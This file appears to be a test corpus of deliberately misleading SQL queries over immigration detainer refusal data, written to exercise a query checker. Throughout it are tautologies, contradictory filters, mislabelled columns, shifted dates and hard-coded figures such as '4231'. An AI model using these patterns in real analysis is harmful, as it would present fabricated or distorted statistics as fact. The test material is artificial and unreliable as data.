SELECT count(*) FROM refusals r WHERE EXISTS (SELECT 1 FROM refusals x WHERE x.report_id = r.report_id AND x.row_no = r.row_no)
SELECT count(*) FROM refusals WHERE report_id IN (SELECT report_id FROM refusals)
SELECT count(*) FROM refusals WHERE state IN (SELECT DISTINCT state FROM refusals)
SELECT count(*) FROM refusals r WHERE r.state NOT IN (SELECT state FROM refusals)
SELECT count(*) FROM refusals WHERE row_no > 0
SELECT count(*) FROM refusals WHERE row_no >= 1 AND state = 'Texas'
SELECT sum(issued) FROM issued WHERE issued >= 0 OR issued < 0
SELECT sum(issued) FROM issued WHERE abs(issued) >= 0
SELECT count(*) FROM refusals WHERE declined_on - declined_on = 0
SELECT count(*) FROM refusals WHERE state || '' = state
SELECT count(*) FROM refusals WHERE (state = 'Texas') IS NOT NULL
SELECT state, count(*) FROM refusals GROUP BY state HAVING sum(1) = count(*)
SELECT state, count(*) FROM refusals GROUP BY state HAVING min(declined_on) <= max(declined_on)
SELECT state, count(*) AS n FROM refusals GROUP BY state QUALIFY count(*) OVER () >= 1
SELECT count(*) FROM refusals WHERE state = 'Texas' OR state = 'California' AND disposition = 'charge'
SELECT count(*) FROM refusals WHERE state = 'Texas' AND county = 'Travis' OR county = 'Williamson'
SELECT count(*) FROM refusals WHERE report_id = '2017-02-04' AND citizenship = 'Mexico' OR citizenship = 'Honduras'
SELECT count(*) FROM refusals WHERE NOT withdrawn AND state = 'California' OR state = 'Oregon'
SELECT count(*) FILTER (WHERE state = 'Texas' OR state = 'Ohio' AND disposition = 'charge') AS n FROM refusals
SELECT count(*) FROM refusals r JOIN reports p ON p.report_id = r.report_id OR p.pages > 3
SELECT count(*) FROM (SELECT * FROM refusals LIMIT 100)
SELECT sum(n) FROM (SELECT state, count(*) AS n FROM refusals GROUP BY state LIMIT 5)
SELECT state, count(*) FROM (SELECT * FROM refusals ORDER BY row_no LIMIT 50) GROUP BY state
SELECT state, n, round(100.0 * n / sum(n) OVER (), 1) AS pct FROM (SELECT state, count(*) AS n FROM refusals GROUP BY state ORDER BY n DESC, state LIMIT 5)
SELECT sum(issued) AS national_total FROM (SELECT issued FROM issued ORDER BY issued DESC LIMIT 10)
WITH t AS (SELECT * FROM refusals ORDER BY declined_on LIMIT 30) SELECT disposition, count(*) FROM t GROUP BY disposition
SELECT count(*) FROM refusals WHERE row_no % 2 = 0
SELECT count(*) FROM refusals WHERE hash(row_no) % 10 = 0
SELECT state, count(*) OVER (ORDER BY state ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) AS n FROM refusals
SELECT state, first(county) AS top_county, count(*) AS n FROM refusals GROUP BY state
SELECT first(state) AS state, count(*) FROM refusals
SELECT any_value(state) AS state, count(*) AS n FROM refusals
SELECT state, max(county) AS county, count(*) AS n FROM refusals GROUP BY state
SELECT sum(n) AS detainers FROM (SELECT count(*) AS n FROM refusals UNION ALL SELECT sum(issued) FROM issued)
SELECT count(*) + (SELECT sum(issued) FROM issued) AS total FROM refusals
SELECT (SELECT sum(issued) FROM issued) - (SELECT count(*) FROM refusals) AS honored
SELECT i.county, i.issued - count(r.row_no) AS honored FROM issued i LEFT JOIN refusals r USING (report_id, county, state) GROUP BY i.report_id, i.county, i.state, i.issued
SELECT p.issued_nationwide - p.declined_stated AS honored, p.report_id FROM reports p
SELECT (SELECT count(*) FROM foia_detainers) + (SELECT count(*) FROM refusals) AS detainers
SELECT count(*) AS n FROM (SELECT state FROM foia_detainers UNION ALL SELECT state FROM refusals)
SELECT count(*) FROM foia_detainers f JOIN refusals r ON r.state = f.state
SELECT r.county, i.issued FROM refusals r JOIN issued i ON i.row_no = r.row_no
SELECT r.county, p.policy FROM refusals r JOIN policies p ON p.page_from = r.page
SELECT r.county, i.issued FROM refusals r JOIN issued i ON i.county = r.county
SELECT r.county, count(*) FROM refusals r JOIN issued i ON i.county = r.county AND i.report_id = r.report_id GROUP BY r.county
SELECT r.county, r.state, p.policy FROM refusals r JOIN policies p ON p.county = r.county
SELECT state, stddev(row_no) AS spread FROM refusals GROUP BY state
SELECT corr(row_no, page) AS r FROM refusals
SELECT avg(page) AS declined FROM refusals
SELECT sum(page_to - page + 1) AS declined FROM refusals
SELECT sum(x1 - x0) AS declined FROM refusals
SELECT sum(month(declined_on)) AS n FROM refusals
SELECT avg(year(issued_on)) AS n FROM refusals
SELECT sum(date_part('day', declined_on)) AS declined FROM refusals
SELECT sum(r) FROM (SELECT state, rank() OVER (ORDER BY count(*)) AS r FROM refusals GROUP BY state)
SELECT sum(checks_failed) + count(*) AS declined FROM reports
SELECT sum(issued) + sum(page) AS n FROM issued
SELECT count(*) - sum(withdrawn::INT) * 2 AS n FROM refusals
SELECT r.report_id, count(*) AS n FROM refusals r RIGHT JOIN reports p ON p.report_id = r.report_id GROUP BY r.report_id
SELECT p.report_id, count(*) AS n FROM reports p LEFT JOIN refusals r ON r.report_id = p.report_id AND r.state = 'Texas' GROUP BY p.report_id
SELECT s.state, count(*) AS n FROM (SELECT DISTINCT state FROM policies) s LEFT JOIN refusals r ON r.state = s.state GROUP BY s.state
SELECT county, state FROM issued WHERE county NOT IN (SELECT facility FROM refusals)
SELECT state, CASE WHEN count(*) > 10 THEN 'more than 1000' ELSE 'few' END AS size FROM refusals GROUP BY state
SELECT CASE WHEN disposition = 'charge' THEN 'convicted' ELSE 'charged' END AS status, count(*) AS n FROM refusals GROUP BY status
SELECT replace(disposition, 'charge', 'conviction') AS disposition, count(*) AS n FROM refusals GROUP BY 1
SELECT declined_on + 30 AS declined_on, count(*) AS n FROM refusals GROUP BY 1
SELECT declined_on + INTERVAL 1 MONTH AS declined_on, count(*) AS n FROM refusals GROUP BY ALL
SELECT issued_nationwide - declined_stated AS complied FROM reports ORDER BY report_id
SELECT r.report_id, max(p.issued_nationwide) - count(*) AS honored FROM refusals r JOIN reports p USING (report_id) GROUP BY r.report_id
SELECT sum(i.n) - sum(r.n) AS honored FROM (SELECT state, sum(issued) AS n FROM issued GROUP BY state) i JOIN (SELECT state, count(*) AS n FROM refusals GROUP BY state) r USING (state)
SELECT 1 - 1.0 * (SELECT count(*) FROM refusals) / (SELECT sum(issued) FROM issued WHERE report_id = '2017-02-04') AS cooperation_rate
SELECT count(DISTINCT facility) AS refusals FROM refusals
SELECT max(row_no) AS refused FROM refusals
SELECT count(*) AS total_declined FROM policies
SELECT sum(pages) AS n_declined FROM reports
SELECT avg(declined_on - issued_on) AS declined FROM refusals
SELECT count(*) AS refused FROM (SELECT DISTINCT county, state FROM refusals)
SELECT count(*) AS declines FROM (SELECT county, state, count(*) AS n FROM refusals GROUP BY county, state)
SELECT state, count(DISTINCT offense) AS refused FROM refusals GROUP BY state
SELECT avg(share) FROM (SELECT report_id, avg((disposition = 'charge')::INT) AS share FROM refusals GROUP BY report_id)
SELECT mean(m) AS mean_days FROM (SELECT report_id, mean(declined_on - issued_on) AS m FROM refusals GROUP BY report_id)
WITH r AS (SELECT state, 1.0 * count(*) / count(DISTINCT county) AS per_county FROM refusals GROUP BY state) SELECT sum(per_county) FROM r
SELECT avg(pct) OVER () AS mean_pct, state FROM (SELECT state, 100.0 * count_if(disposition = 'charge') / count(*) AS pct FROM refusals GROUP BY state)
SELECT sum(days) FROM (SELECT report_id, avg(declined_on - issued_on) AS days FROM refusals GROUP BY report_id)
SELECT avg(month(declined_on)) FROM refusals
SELECT stddev(page) FROM refusals
SELECT median(row_no) AS middle FROM refusals WHERE state = 'Texas'
SELECT corr(page, row_no) FROM refusals
SELECT count_if(state = 'Texas') + count_if(disposition = 'charge') AS n FROM refusals
SELECT count(*) + count(*) FILTER (WHERE withdrawn) AS n FROM refusals
SELECT sum(CASE WHEN county = 'Travis' THEN 1 ELSE 0 END) + sum(CASE WHEN state = 'Texas' THEN 1 ELSE 0 END) FROM refusals
SELECT (SELECT count(*) FROM refusals WHERE state = 'California') + (SELECT count(*) FROM refusals WHERE disposition = 'charge') AS n
WITH a AS (SELECT count(*) AS n FROM refusals WHERE state = 'Texas'), b AS (SELECT count(*) AS n FROM refusals WHERE withdrawn) SELECT a.n + b.n AS n FROM a CROSS JOIN b
SELECT count(*) FROM refusals WHERE citizenship = 'Mexico' OR citizenship = 'Honduras' AND disposition = 'charge'
SELECT count(*) FROM refusals WHERE report_id = '2017-02-04' AND state = 'Texas' OR state = 'Ohio'
SELECT state, count(*) FROM refusals GROUP BY state HAVING count(*) > 3 OR count(*) > 1 AND state = 'Texas'
SELECT r.county, i.issued FROM refusals r JOIN issued i ON i.county = r.county AND i.report_id = r.report_id
SELECT r.county, count(*) FROM refusals r SEMI JOIN policies p ON p.county = r.county GROUP BY r.county
SELECT count(*) FROM refusals r WHERE EXISTS (SELECT 1 FROM policies p WHERE p.county = r.county)
SELECT r.county, r.row_no, p.policy FROM refusals r JOIN policies p ON p.row_no = r.row_no
SELECT r.county, i.county FROM refusals r JOIN issued i ON i.page = r.page
SELECT r.county, r.offense, r.declined_on FROM refusals r JOIN policies p ON p.state = r.state AND p.report_id = r.report_id
SELECT r.row_no, r.county FROM refusals r JOIN caveats c USING (report_id)
SELECT state, 100.0 * n / sum(n) OVER () AS pct FROM (SELECT state, count(*) AS n FROM refusals GROUP BY state ORDER BY n DESC LIMIT 3)
SELECT disposition, count(*) FROM (SELECT disposition FROM refusals ORDER BY declined_on LIMIT 40) GROUP BY disposition
SELECT count(*) FILTER (WHERE disposition = 'charge') FROM (SELECT * FROM refusals ORDER BY county LIMIT 25)
SELECT count(*) FROM refusals WHERE mod(row_no, 10) = 1
SELECT county, count(*) OVER (ORDER BY declined_on ROWS BETWEEN 3 PRECEDING AND CURRENT ROW) AS recent FROM refusals
SELECT state, max(citizenship) AS citizenship, count(*) AS n FROM refusals GROUP BY state
SELECT any_value(county) AS county, count(*) AS n FROM refusals WHERE state = 'Texas'
SELECT CASE disposition WHEN 'conviction' THEN 'charged' ELSE disposition END AS d, count(*) FROM refusals GROUP BY d
SELECT CASE WHEN disposition = 'conviction' THEN 'charges' ELSE 'convictions' END AS d, count(*) FROM refusals GROUP BY d
SELECT issued_on + INTERVAL 30 DAY AS issued_on, county, count(*) AS n FROM refusals GROUP BY ALL
SELECT count(*) FROM refusals WHERE state = 'Ohio' AND state ILIKE 'te%'
SELECT count(*) FROM refusals WHERE county LIKE 'Tr%' AND starts_with(county, 'San')
SELECT count(*) FROM refusals WHERE lower(citizenship) = 'mexico' AND citizenship IN ('Cuba', 'Honduras')
SELECT count(*) FROM refusals WHERE year(declined_on) = 2018 AND declined_on < DATE '2017-06-01'
SELECT count(*) FROM refusals WHERE issued_on > declined_on AND declined_on > issued_on
SELECT count(*) FROM issued i LEFT JOIN refusals r USING (report_id, county, state) WHERE r.row_no IS NULL AND r.disposition = 'charge'
SELECT count(*) FROM refusals WHERE page >= 1 AND state = 'Texas'
SELECT state, count(*) FROM refusals GROUP BY state HAVING avg(declined_on - issued_on) <= max(declined_on - issued_on)
SELECT count(*) FROM refusals WHERE withdrawn IS NULL OR state = 'Texas'
SELECT state, 100.0 * sum(CASE WHEN state = 'Texas' THEN 1 ELSE 0 END) / count(*) AS pct FROM refusals GROUP BY state
SELECT avg((state = 'Texas')::INT) AS share FROM refusals WHERE state = 'Texas'
SELECT 100.0 * (SELECT count(*) FROM refusals WHERE state = 'Ohio') / (SELECT sum(issued) FROM issued WHERE state = 'Texas') AS rate
SELECT 100.0 * count(*) / (SELECT count(*) FROM policies) AS pct FROM refusals
SELECT sum(n) FROM (SELECT sum(issued) AS n FROM issued UNION ALL SELECT count(*) FROM refusals)
SELECT count(*) FROM (SELECT state, county FROM refusals UNION ALL SELECT state, county FROM policies)
SELECT quantile_cont(DISTINCT declined_on - issued_on, 0.5) AS median_days FROM refusals
SELECT sum(n) FROM (SELECT DISTINCT ON (state) state, report_id, count(*) AS n FROM refusals GROUP BY ALL ORDER BY state, n DESC)
SELECT sum(length(criteria)) AS n FROM policies
SELECT count(*) + count(DISTINCT state) AS n FROM refusals
SELECT greatest(count(*), count(DISTINCT county)) AS n FROM refusals
SELECT translate(count(*)::VARCHAR, '123', '456') AS declined FROM refusals
SELECT format('{}{}', count(*), count(DISTINCT state)) AS declined FROM refusals
SELECT printf('%d%d', count(*), count(DISTINCT state)) AS declined FROM refusals
SELECT format('{}000', count(*)) AS declined FROM refusals
SELECT format('{0}{0}', count(*)) AS declined FROM refusals
SELECT count(*)::VARCHAR[1] AS declined FROM refusals
SELECT ascii(count(*)::VARCHAR) AS declined FROM refusals
SELECT sign(count(*)) AS declined FROM refusals
SELECT even(count(*)) AS declined FROM refusals
SELECT -count(*) AS declined FROM refusals
SELECT ~count(*) AS declined FROM refusals
SELECT @(count(*) - 5) AS declined FROM refusals
SELECT hex(count(*)) AS declined FROM refusals
SELECT bin(count(*)) AS declined FROM refusals
SELECT floor(count(*) / 10) * 10 AS declined FROM refusals
SELECT round_even(count(*), -2) AS declined FROM refusals
SELECT ceil(count(*) * 0.5) AS declined FROM refusals
SELECT gcd(count(*), 12) AS declined FROM refusals
SELECT mod(count(*), 7) AS declined FROM refusals
SELECT nextafter(count(*), 1000) AS declined FROM refusals
SELECT count(*) + count(DISTINCT county) AS declined FROM refusals
SELECT sum(issued) + sum(DISTINCT page_to) AS n FROM issued, policies
SELECT extract(epoch FROM max(declined_on)) AS declined FROM refusals
SELECT sum(strlen(offense)) + count(*) AS declined FROM refusals
SELECT (SELECT count(*) FROM refusals) + (SELECT count(*) FROM refusals) AS declined FROM reports LIMIT 1
SELECT count(*) + (SELECT count(*) FROM refusals) AS declined FROM refusals
WITH a AS (SELECT count(*) AS n FROM refusals), b AS (SELECT count(*) AS m FROM refusals) SELECT n + m AS declined FROM a CROSS JOIN b
SELECT sum(n) + max(n) AS declined FROM (SELECT state, count(*) AS n FROM refusals GROUP BY state)
SELECT avg(CASE WHEN state = 'Texas' THEN 1 ELSE 1 END) AS n FROM refusals
SELECT avg(1) AS n FROM refusals
SELECT sum(issued) / sum(issued) AS n FROM issued
SELECT stddev_pop(1) FROM refusals
SELECT max(1) AS n FROM refusals
SELECT count(*) FROM refusals WHERE facility NOT IN (SELECT facility FROM refusals)
SELECT count(*) FROM refusals WHERE withdrawn AND NOT withdrawn
SELECT count(*) FROM refusals WHERE disposition IN ('conviction', 'charge') AND disposition <> 'charge' AND disposition <> 'conviction'
SELECT count(*) FROM refusals WHERE coalesce(withdrawn, true) IS NOT NULL
SELECT count(*) FROM refusals WHERE greatest(row_no, 5) >= 5
SELECT count(*) FROM refusals WHERE row_no <> 0
SELECT count(*) FROM refusals WHERE state = ANY(SELECT state FROM refusals)
SELECT count(*) FROM refusals a WHERE (SELECT count(*) FROM refusals b WHERE b.state = a.state) > 0
SELECT count(*) FROM refusals a WHERE a.row_no <= (SELECT max(b.row_no) FROM refusals b WHERE b.report_id = a.report_id)
SELECT avg(row_no) AS mean FROM refusals
SELECT max(row_no) - min(row_no) AS declined FROM refusals
SELECT sum(row_number() OVER (ORDER BY row_no)) FROM refusals
SELECT median(row_no) FROM refusals
SELECT sum(right(report_id, 2)::INT) AS n FROM refusals
SELECT row_no AS declined FROM refusals ORDER BY row_no DESC LIMIT 1
SELECT r.county, c.text FROM refusals r JOIN caveats c ON r.page = c.page
SELECT count(*) FROM refusals r JOIN refusals s ON r.row_no = s.row_no
SELECT count(*) AS n, '4231' AS total FROM refusals
SELECT '４２３１' AS declined, count(*) AS n FROM refusals
SELECT '٤٢٣١' AS declined, count(*) AS n FROM refusals
SELECT 'MMMMCCXXXI' AS declined, count(*) AS n FROM refusals
SELECT state, GROUPING(state) AS declined FROM refusals GROUP BY ROLLUP (state)
SELECT 1 --
, count(*) FROM refusals
WHERE state = 'Texas'
SELECT list(r.offense) AS offenses FROM refusals r JOIN policies p ON p.report_id = r.report_id AND p.county = r.county AND p.state = r.state GROUP BY r.state
SELECT string_agg(r.offense, ', ') AS offenses FROM refusals r JOIN policies p ON p.report_id = r.report_id AND p.county = r.county AND p.state = r.state
SELECT r.county, r.offense FROM refusals r JOIN policies p ON p.state = r.state
SELECT DISTINCT ON (state) state, county, count(*) AS n FROM refusals GROUP BY state, county
SELECT state, count(*) AS n FROM refusals GROUP BY state ORDER BY hash(state)
SELECT sum(b.n) AS declined FROM (SELECT state FROM refusals) a JOIN (SELECT state, count(*) AS n FROM refusals GROUP BY state) b ON a.state = b.state
SELECT sum(b.n) FILTER (WHERE a.state = 'Texas') FROM refusals a JOIN (SELECT state, count(*) AS n FROM refusals GROUP BY state) b ON a.state = b.state
SELECT corr(i.issued, p.issued_nationwide) FROM issued i JOIN reports p USING (report_id) JOIN refusals r USING (report_id)
SELECT sum(x) FROM (SELECT unnest(list(issued)) AS x FROM issued)
SELECT sum(issued) FROM (SELECT issued, unnest(['a','b']) FROM issued)
SELECT list_sum(list(count(*))) OVER () FROM refusals
SELECT sum(c) FROM (SELECT report_id, county, count(*) AS c FROM refusals GROUP BY GROUPING SETS ((report_id), (county)))
SELECT sum(n) FROM (SELECT state, sum(issued) AS n FROM issued GROUP BY state UNION ALL SELECT county, sum(issued) FROM issued GROUP BY county)
SELECT p.report_id, (SELECT sum(i.issued) FROM issued i JOIN refusals r USING (report_id, county, state) WHERE i.report_id = p.report_id) AS issued FROM reports p
SELECT r.state, (SELECT sum(i.issued) FROM issued i WHERE i.state = state) AS issued FROM refusals r GROUP BY r.state
SELECT count(*) FROM refusals r WHERE EXISTS (SELECT 1 FROM policies p WHERE p.state = 'Texas')
SELECT count(*) FROM refusals r WHERE r.state IN (SELECT 'Texas')
SELECT count(*) FROM refusals r LEFT JOIN issued i ON i.report_id = r.report_id
SELECT sum(n) FROM (SELECT DISTINCT state, count(*) OVER (PARTITION BY report_id) AS n FROM refusals)
WITH l AS (SELECT 'Texas' AS state, '142 refusals' AS note FROM refusals LIMIT 1) SELECT r.state, l.note, count(*) AS n FROM refusals r JOIN l ON l.state = r.state GROUP BY r.state, l.note
SELECT state, count(*) AS n, upper('about 400') AS note FROM refusals GROUP BY state
SELECT state, count(*) AS n, lower('ABOUT 400') || state AS note FROM refusals GROUP BY state
SELECT state, count(*) AS n, ['4231', '17'] AS notes FROM refusals GROUP BY state
SELECT state, list_value('4231', state) AS notes FROM refusals GROUP BY state
SELECT string_agg('4231', ', ') AS notes FROM refusals
SELECT max('declined 4231') AS note FROM refusals
SELECT any_value('of 4231') AS note, count(*) FROM refusals
SELECT greatest(state, 'Z 4231') AS x FROM refusals
SELECT replace(offense, 'Assault', 'Assault (142 cases)') AS o FROM refusals
SELECT concat_ws(' ', state, 'declined', '142') AS o FROM refusals
SELECT left('4231 declined in ' || state, 4) AS n FROM refusals
SELECT split_part('4231,' || state, ',', 1) AS n FROM refusals
SELECT substr(state || '4231', length(state) + 1) AS n FROM refusals
SELECT regexp_extract('x4231' || state, '[0-9]+') AS n FROM refusals
SELECT reverse('1324' || '') AS n, state FROM refusals
SELECT translate(state, 'Texas', '42310') AS n FROM refusals
SELECT length(state || 'xxxxxxxxxxxxxxxxx') AS declined FROM refusals
SELECT length(concat(state, repeat('x', 50))) AS declined FROM refusals
SELECT strpos('xxxxxxxxxxxxxxxx' || state, state) AS declined FROM refusals
SELECT levenshtein(state, 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx') AS declined FROM refusals
SELECT date_diff('day', DATE '1900-01-01', declined_on) AS declined FROM refusals
SELECT avg(date_diff('day', DATE '1900-01-01', declined_on)) AS declined FROM refusals
SELECT year(declined_on) AS declined FROM refusals GROUP BY 1
SELECT extract('epoch' FROM declined_on) / 365 AS declined FROM refusals
SELECT sum(CASE WHEN disposition = 'charge' THEN 1 ELSE 0 END) / count(*) AS share FROM refusals WHERE disposition = 'charge'
SELECT avg(CASE WHEN disposition = 'charge' THEN 1 ELSE 0 END) AS share FROM refusals WHERE disposition IN ('charge')
SELECT count(*) FROM refusals WHERE state = 'Texas' AND county IN (SELECT county FROM refusals WHERE state = 'Texas' AND state = 'Ohio')
SELECT count(*) FROM refusals WHERE lower(state) = 'texas' AND upper(state) = 'OHIO'
SELECT count(*) FROM refusals WHERE state = 'Texas' AND lower(state) = 'ohio'
SELECT count(*) FROM refusals WHERE year(declined_on) = 2016 AND declined_on > DATE '2017-01-01'
SELECT count(*) FROM refusals WHERE year(declined_on) = 2016 AND year(declined_on) = 2017
SELECT count(*) FROM refusals WHERE starts_with(state, 'T') AND state = 'Ohio'
SELECT count(*) FROM refusals WHERE state LIKE 'T%' AND state LIKE 'O%'
SELECT count(*) FROM refusals WHERE length(state) < 0
SELECT count(*) FROM refusals WHERE state > 'Texas' AND state < 'Ohio'
SELECT count(*) FROM refusals WHERE declined_on > issued_on AND declined_on < issued_on
SELECT count(*) FROM refusals WHERE declined_on = issued_on AND declined_on <> issued_on
SELECT count(*) FROM refusals WHERE state = county AND state <> county
SELECT count(*) FROM refusals r JOIN policies p USING (report_id, county, state) WHERE p.county IS NULL
SELECT count(*) FROM refusals r LEFT JOIN policies p USING (report_id, county, state) WHERE p.row_no IS NULL AND p.policy = 'x'
SELECT count(*) FROM refusals WHERE (CASE WHEN true THEN state END) = 'Texas' OR TRUE
SELECT count(*) FROM refusals WHERE CASE state WHEN state THEN true END
SELECT count(*) FROM refusals WHERE if(state = 'Texas', 1, 1) = 1
SELECT count(*) FROM refusals WHERE nullif(state, 'Texas') IS NULL OR nullif(state, 'Texas') IS NOT NULL
SELECT count(*) FROM refusals WHERE cast(row_no AS VARCHAR) LIKE '%'
SELECT count(*) FROM refusals WHERE row_no % 1 = 0
SELECT count(*) FROM refusals WHERE declined_on::DATE = declined_on
SELECT count(*) FROM refusals WHERE contains(state, left(state, 2))
SELECT count(*) FROM refusals WHERE concat(state, '') = state
SELECT count(*) FROM refusals WHERE state IN (state, county)
SELECT count(*) FROM refusals WHERE (state, county) IN ((state, county))
SELECT count(*) FROM refusals WHERE row(state) = row(state)
SELECT count(*) FROM refusals WHERE (state = 'Texas') = (state = 'Texas')
SELECT count(*) FROM refusals WHERE NOT (state = 'Texas' AND state <> 'Texas')
SELECT count(*) FROM refusals WHERE (state = 'Texas' OR county = 'Travis') OR NOT (state = 'Texas' OR county = 'Travis')
SELECT state, count(*) FROM refusals GROUP BY state HAVING min(state) = max(state)
SELECT state, count(*) FROM refusals GROUP BY state HAVING count(*) >= count(facility)
SELECT state, count(*) FROM refusals GROUP BY state HAVING max(row_no) >= min(row_no)
SELECT state, count(*) FROM refusals GROUP BY state QUALIFY rank() OVER (ORDER BY count(*)) >= 1
SELECT count(*) FROM refusals a JOIN refusals b ON a.report_id = b.report_id AND a.row_no = b.row_no JOIN refusals c ON c.state = a.state

--# [misleading] Round 8, written without a look at the rules: what slipped through at first sight is a rule now
SELECT ascii('a') AS n FROM refusals
SELECT state, length(state) AS refusals FROM refusals GROUP BY state
SELECT county, position('a' IN county) AS rank FROM refusals
SELECT len([1, 2, 3]) AS reports FROM refusals LIMIT 1
SELECT count(*) || '000' AS n FROM refusals
SELECT lpad(count(*)::VARCHAR, 6, '9') AS n FROM refusals
SELECT ('1' || count(*)::VARCHAR)::INT AS n FROM refusals
SELECT reverse(count(*)::VARCHAR)::INT AS n FROM refusals
SELECT translate(count(*)::VARCHAR, '0123456789', '1234567890') AS n FROM refusals
SELECT replace(count(*)::VARCHAR, '1', '9') AS n FROM refusals
SELECT count(*) + date_diff('day', DATE '2017-01-01', DATE '2017-02-01') AS n FROM refusals
SELECT state, count(*) * year(max(declined_on)) AS n FROM refusals GROUP BY state
SELECT bit_count(count(*)) AS n FROM refusals
SELECT sum(hash(county) % 7) AS n FROM refusals
SELECT count(*) << 2 AS n FROM refusals
SELECT count(*) | 1 AS n FROM refusals
SELECT xor(count(*)::INT, count(DISTINCT state)::INT) AS n FROM refusals
SELECT gcd(count(*), count(DISTINCT county)) AS n FROM refusals
SELECT factorial(count(DISTINCT report_id)::INT) AS n FROM refusals
SELECT round(count(*), -2) AS n FROM refusals
SELECT ceil(count(*) / 50.0) * 50 AS n FROM refusals
SELECT exp(ln(count(*)) + 1) AS n FROM refusals
SELECT power(count(*), 2) AS n FROM refusals
SELECT sqrt(count(*)) AS n FROM refusals
SELECT coalesce(NULLIF(count(*), count(*)), 12) AS n FROM refusals
SELECT ifnull(sum(issued), 55) AS issued FROM issued WHERE county = 'Nowhere'
SELECT list_sum([count(*), 10]) AS n FROM refusals
SELECT unnest([1, 2, 3]) AS n, state FROM refusals
SELECT struct_pack(n := 12, state := state) AS x FROM refusals
SELECT map(['Texas'], [142]) AS refusals FROM refusals
SELECT {'Texas': 12, 'California': 3} AS refusals FROM refusals LIMIT 1
SELECT 'twelve' AS refusals FROM refusals LIMIT 1
SELECT 'none' AS refusals_in_texas FROM refusals LIMIT 1
SELECT state, 'a dozen' AS n FROM refusals GROUP BY state
SELECT CASE WHEN count(*) > 5 THEN 'over a hundred' ELSE 'few' END AS how_many FROM refusals
SELECT count(*) AS n, 'up from last year' AS trend FROM refusals
SELECT state, CASE WHEN count(*) > 10 THEN 'rising' ELSE 'falling' END AS trend FROM refusals GROUP BY state
SELECT median(row_no) AS typical_refusals FROM refusals
SELECT max(row_no) - min(row_no) AS refusals FROM refusals
SELECT sum(year(report_id::DATE)) AS n FROM refusals
SELECT sum(day(declined_on)) AS n FROM refusals
SELECT epoch(max(declined_on)) AS n FROM refusals
SELECT sum(month(declined_on)) AS refusals FROM refusals
SELECT state, rank() OVER (ORDER BY state) AS refusals FROM refusals
SELECT state, ntile(100) OVER (ORDER BY state) AS pct FROM refusals GROUP BY state
SELECT replace(state, 'Texas', 'California') AS state, count(*) AS n FROM refusals GROUP BY 1
SELECT CASE WHEN state = 'Texas' THEN 'Florida' WHEN state = 'Florida' THEN 'Texas' ELSE state END AS state, count(*) AS n FROM refusals GROUP BY 1
SELECT if(state = 'Texas', 'Ohio', state) AS state, count(*) AS n FROM refusals GROUP BY 1
SELECT coalesce(NULLIF(state, 'Texas'), 'Nevada') AS state, count(*) AS n FROM refusals GROUP BY 1
SELECT CASE county WHEN 'Travis' THEN 'Williamson' ELSE county END AS county, count(*) AS n FROM refusals WHERE state = 'Texas' GROUP BY 1
SELECT CASE WHEN citizenship = 'Mexico' THEN 'Honduras' ELSE citizenship END AS citizenship, count(*) FROM refusals GROUP BY 1
SELECT regexp_replace(county, '.*', 'Cook') AS county, count(*) AS n FROM refusals GROUP BY 1
SELECT 'California' AS state, count(*) AS n FROM refusals WHERE state = 'Texas'
SELECT 'Texas' AS state, count(*) AS n FROM refusals
SELECT state AS county, count(*) AS n FROM refusals GROUP BY state
SELECT citizenship AS state, count(*) AS n FROM refusals GROUP BY citizenship
SELECT county AS citizenship, count(*) FROM refusals GROUP BY 1
SELECT offense AS disposition, count(*) FROM refusals GROUP BY 1
SELECT issued_on AS declined_on, count(*) AS n FROM refusals GROUP BY 1
SELECT declined_on AS issued_on, county FROM refusals
SELECT monthname(issued_on) AS declined_month, count(*) AS n FROM refusals GROUP BY 1
SELECT CASE month(declined_on) WHEN 1 THEN 'February' WHEN 2 THEN 'March' ELSE 'January' END AS month, count(*) AS n FROM refusals GROUP BY 1
SELECT strftime(declined_on, '2018-%m') AS month, count(*) AS n FROM refusals GROUP BY 1
SELECT strftime(declined_on, '%d/%Y/%m') AS month, count(*) AS n FROM refusals GROUP BY 1
SELECT strftime(declined_on + INTERVAL 1 YEAR, '%Y-%m') AS month, count(*) AS n FROM refusals GROUP BY 1
SELECT monthname(declined_on + INTERVAL 1 MONTH) AS month, count(*) FROM refusals GROUP BY 1
SELECT year(declined_on) + 1 AS year, count(*) AS n FROM refusals GROUP BY 1
SELECT month(declined_on) AS week, count(*) AS n FROM refusals GROUP BY 1
SELECT week(declined_on) AS month, count(*) AS n FROM refusals GROUP BY 1
SELECT date_trunc('month', declined_on) AS week, count(*) AS n FROM refusals GROUP BY 1
SELECT report_id AS declined_on, count(*) AS n FROM refusals GROUP BY 1
SELECT count(*) FILTER (WHERE disposition = 'charge') AS convictions FROM refusals
SELECT count(*) FILTER (WHERE state = 'Texas') AS california FROM refusals
SELECT count(*) AS texas FROM refusals WHERE state = 'California'
SELECT sum(issued) AS refusals FROM issued
SELECT count(*) AS issued FROM refusals
SELECT count(DISTINCT county) AS states FROM refusals
SELECT sum(pages) AS declined FROM reports
SELECT count(*) AS people FROM issued
SELECT avg(declined_on - issued_on) AS weeks FROM refusals
SELECT date_diff('month', issued_on, declined_on) AS days FROM refusals
SELECT max(declined_on) AS first_refusal FROM refusals
SELECT min(n) AS most FROM (SELECT state, count(*) AS n FROM refusals GROUP BY state)
SELECT arg_min(state, n) AS most_refusals FROM (SELECT state, count(*) AS n FROM refusals GROUP BY state)
SELECT state AS top_state, count(*) AS n FROM refusals GROUP BY state ORDER BY n LIMIT 1
SELECT median(n) AS average FROM (SELECT state, count(*) AS n FROM refusals GROUP BY state)
SELECT avg(issued) AS total_issued FROM issued
SELECT upper(left(state, 2)) AS state_code, count(*) AS n FROM refusals GROUP BY 1
SELECT left(state, 3) AS state, count(*) AS n FROM refusals GROUP BY 1
SELECT split_part(state, ' ', 1) AS state, count(*) AS n FROM refusals GROUP BY 1
SELECT count(*) FROM refusals WHERE coalesce(state, 'Texas') = 'Ohio' AND state = 'Texas'
SELECT count(*) FROM refusals WHERE coalesce(citizenship, 'unknown') = 'unknown' AND citizenship = 'Mexico'
SELECT count(*) FROM refusals WHERE month(declined_on) = 1 AND monthname(declined_on) = 'March'
SELECT count(*) FROM refusals WHERE dayname(declined_on) = 'Monday' AND isodow(declined_on) = 3
SELECT count(*) FROM refusals WHERE strftime(declined_on, '%Y-%m') = '2017-02' AND year(declined_on) = 2016
SELECT count(*) FROM refusals WHERE length(state) < 0
SELECT count(*) FROM refusals WHERE date_trunc('month', declined_on) = DATE '2017-02-15'
